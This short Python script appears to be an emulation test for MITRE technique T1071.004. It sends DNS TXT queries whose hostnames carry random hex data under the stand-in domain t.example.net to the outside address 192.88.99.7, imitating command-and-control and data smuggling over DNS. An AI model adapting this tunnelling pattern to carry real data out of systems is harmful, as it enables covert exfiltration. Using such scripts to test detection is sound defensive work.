#!/usr/bin/env python3
# title: Orders come and data goes as names of hosts
# technique: T1071.004
# needs: python3
# short: yes

import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
for number in range(20):
    labels = [os.urandom(24).hex(), str(number), "t", "example", "net"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    s.sendto(struct.pack(">HHHHHH", number, 256, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1), ("192.88.99.7", 53))
    s.recv(512)
